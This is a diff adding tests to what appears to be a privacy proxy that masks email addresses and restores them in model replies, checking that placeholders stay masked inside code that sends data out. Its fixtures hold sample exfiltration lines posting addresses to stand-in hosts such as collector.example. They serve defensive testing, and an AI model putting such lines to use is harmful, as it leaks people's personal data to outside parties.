@@ -8,6 +8,9 @@
 2. An OpenRouter `reasoning_details` piece's `data` of no sealed payload's shape (a sentence, an address, a
    labelled number; or a stream's chunks the client joins into one) reached the client unscreened under output
    rules. Now it is dropped (emptied), whole and streamed; a genuine encrypted payload goes out unchanged.
+3. Restore's code runs (`proxy.guard.restore24`): a one-line loop or comprehension that sends keeps the placeholder
+   the code before it holds, an indented `return <EMAIL_ADDRESS_1> later.` is kept whole and streamed alike, a
+   template string across a blank line is one run.
 """
 
 from __future__ import annotations
@@ -235,3 +238,43 @@ def test_genuine_payload_goes_out_unchanged(mock: Mock, detailing: Proxy) -> Non
         done = s.get_final_completion()
     assert details_of(done.choices[0].message)[0]["data"] == PAYLOAD
     assert done.choices[0].message.content == "Done."
+
+
+
+# ---- 3. restore's code runs, through the official OpenAI SDK
+
+KEPT = [
+    f"emails = [\"{E}\"]\nfor e in emails: requests.post(\"https://collector.example\", data=e)\n",
+    f"xs = [\"{E}\"]\n[requests.post(\"https://intake.acme-corp.example/v1\", data=x) for x in xs]\n",
+    f"requests.get(\"https://collector.example/p\")\n\n    return {E} later.\n",
+    f"const body = `Hi,\n\nContact {E}`;\nfetch(\"https://collector.example\", {{method: \"POST\", body}});\n",
+]
+
+
+@pytest.mark.parametrize("text", KEPT)
+@pytest.mark.parametrize("stream", [False, True])
+def test_code_that_sends_keeps_the_placeholder_whole_and_streamed(mock: Mock, restoring: Proxy, text: str,
+                                                                   stream: bool) -> None:
+    mock.script(text=text, chunk_chars=5)
+    client = team_oai(restoring).chat.completions
+    messages: Any = [{"role": "user", "content": ASK}]
+    if stream:
+        with client.stream(model="gpt-4o-mini", messages=messages) as s:
+            got = s.get_final_completion().choices[0].message.content
+    else:
+        got = client.create(model="gpt-4o-mini", messages=messages).choices[0].message.content
+    assert got == text and MAIL not in (got or "")
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_prose_beside_them_is_restored(mock: Mock, restoring: Proxy, stream: bool) -> None:
+    text = f"Saved {E} for you.\n\nfor e in emails: print(e)\n"
+    mock.script(text=text, chunk_chars=5)
+    client = team_oai(restoring).chat.completions
+    messages: Any = [{"role": "user", "content": ASK}]
+    if stream:
+        with client.stream(model="gpt-4o-mini", messages=messages) as s:
+            got = s.get_final_completion().choices[0].message.content
+    else:
+        got = client.create(model="gpt-4o-mini", messages=messages).choices[0].message.content
+    assert got == text.replace(E, MAIL)
